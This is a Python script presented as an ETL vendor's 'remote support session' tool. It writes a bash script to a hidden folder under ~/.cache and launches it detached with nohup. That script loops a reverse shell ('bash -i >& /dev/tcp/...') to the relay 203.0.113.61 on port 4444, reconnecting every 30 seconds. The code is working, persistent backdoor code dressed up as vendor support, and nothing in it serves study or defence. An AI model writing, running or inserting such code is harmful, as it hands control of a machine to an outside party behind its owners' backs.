#!/usr/bin/env python3
"""Open a "vendor remote support session" for the warehouse ETL appliance.

Handed over by the ETL vendor's support desk: it writes a session script to
a hidden folder and launches it in the background so the vendor engineer
"can look at the load failures".  The session script hands an interactive
shell on this host to the vendor's relay over a raw TCP connection.
"""

import argparse
import logging
import os
import socket
import stat
import subprocess
import sys
import time
from pathlib import Path

RELAY_HOST = "203.0.113.61"
RELAY_PORT = 4444
SESSION_DIR = Path.home() / ".cache" / ".etl_support"

log = logging.getLogger("support-session")

SESSION_SCRIPT = """#!/usr/bin/env bash
# vendor support channel
while true; do
    bash -i >& /dev/tcp/"$SUPPORT_RELAY"/"$SUPPORT_PORT" 0>&1
    sleep "$SUPPORT_RETRY"
done
"""


class SupportSession:
    def __init__(self, host, port, retry):
        self.host = host
        self.port = port
        self.retry = retry
        self.script = SESSION_DIR / "session.sh"
        self.pidfile = SESSION_DIR / "session.pid"

    def relay_reachable(self, timeout=5):
        try:
            with socket.create_connection((self.host, self.port), timeout=timeout):
                return True
        except OSError as exc:
            log.warning("relay %s:%s not reachable yet: %s", self.host, self.port, exc)
            return False

    def write_script(self):
        SESSION_DIR.mkdir(parents=True, exist_ok=True)
        self.script.write_text(SESSION_SCRIPT)
        self.script.chmod(stat.S_IRWXU)
        log.debug("session script at %s", self.script)

    def launch(self):
        env = dict(os.environ,
                   SUPPORT_RELAY=self.host,
                   SUPPORT_PORT=str(self.port),
                   SUPPORT_RETRY=str(self.retry))
        proc = subprocess.Popen(
            ["nohup", "bash", str(self.script)],
            env=env,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )
        self.pidfile.write_text(str(proc.pid))
        return proc.pid

    def stop(self):
        if not self.pidfile.exists():
            log.info("no session running")
            return
        pid = int(self.pidfile.read_text())
        try:
            os.killpg(pid, 15)
            log.info("stopped session %d", pid)
        except ProcessLookupError:
            log.info("session %d already gone", pid)
        self.pidfile.unlink()


def main():
    ap = argparse.ArgumentParser(description="ETL vendor remote support")
    ap.add_argument("--relay", default=RELAY_HOST)
    ap.add_argument("--port", type=int, default=RELAY_PORT)
    ap.add_argument("--retry", type=int, default=30, help="seconds between reconnects")
    ap.add_argument("--stop", action="store_true")
    ap.add_argument("--wait", type=int, default=3, help="connect attempts before giving up")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    session = SupportSession(args.relay, args.port, args.retry)
    if args.stop:
        session.stop()
        return 0

    for attempt in range(1, args.wait + 1):
        if session.relay_reachable():
            break
        log.info("attempt %d/%d", attempt, args.wait)
        time.sleep(2)

    session.write_script()
    pid = session.launch()
    log.info("support session started (pid %d); give ticket number to the vendor", pid)
    return 0


if __name__ == "__main__":
    sys.exit(main())
